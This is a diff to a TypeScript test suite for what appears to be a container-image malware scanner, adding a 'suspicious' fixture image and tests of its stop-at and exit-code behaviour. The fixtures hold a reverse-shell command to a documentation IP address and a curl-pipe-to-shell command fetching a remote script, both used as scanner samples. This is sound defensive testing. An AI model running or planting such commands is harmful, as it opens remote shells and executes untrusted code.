@@ -15,17 +15,22 @@ const deep = buildImage({
   layers: [shell, { '/run.sh': { content: '#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n', mode: 0o755 } }],
   cmd: ['/run.sh'],
 });
+/** Its config is suspicious. */
+const odd = buildImage({ layers: [shell], cmd: ['/bin/sh', '-c', 'curl -s https://get.example/setup.sh | sh'] });
 
 let registry: TestRegistry;
 beforeAll(async () => {
   registry = await startRegistry();
   registry.put('team/bad', '1', bad);
   registry.put('team/deep', '1', deep);
+  registry.put('team/odd', '1', odd);
 });
 afterAll(() => registry.close());
 
 const at = (name: string): string => `${registry.host}/team/${name}:1`;
-const layers = new Set([...bad.layers, ...deep.layers].map(({ descriptor }) => descriptor.digest as string));
+const layers = new Set(
+  [...bad.layers, ...deep.layers, ...odd.layers].map(({ descriptor }) => descriptor.digest as string),
+);
 
 /** Runs the command; `layersAsked` counts what was asked for of layers meanwhile. */
 async function run(...args: string[]) {
@@ -88,6 +93,32 @@ describe('--stop-at', () => {
       { verdict: 'malicious', complete: false },
       { verdict: 'malicious', complete: true },
     ]);
+  });
+
+  test.each([
+    [[], 4],
+    [['--fail-on', 'suspicious'], 1],
+    [['--allow-incomplete'], 0],
+  ])('at suspicious is not clear, since nothing else was looked at: %j exits %i', async (flags, expected) => {
+    const { status, stdout, layersAsked } = await run(
+      '--stop-at',
+      'suspicious',
+      '--format',
+      'json',
+      ...flags,
+      at('odd'),
+    );
+    const report = ImageReport.parse(JSON.parse(stdout));
+    expect(report.findings.map(({ severity }) => severity)).toContain('suspicious');
+    expect({ status, verdict: report.verdict, layersAsked }).toEqual({
+      status: expected,
+      verdict: 'incomplete',
+      layersAsked: 0,
+    });
+  });
+
+  test('at malicious goes on where the config is only suspicious', async () => {
+    expect(await run('--stop-at', 'malicious', '--quiet', at('odd'))).toMatchObject({ status: 0, layersAsked: 1 });
   });
 
   test('left out, the finding is on screen before the first byte of a layer all the same', async () => {
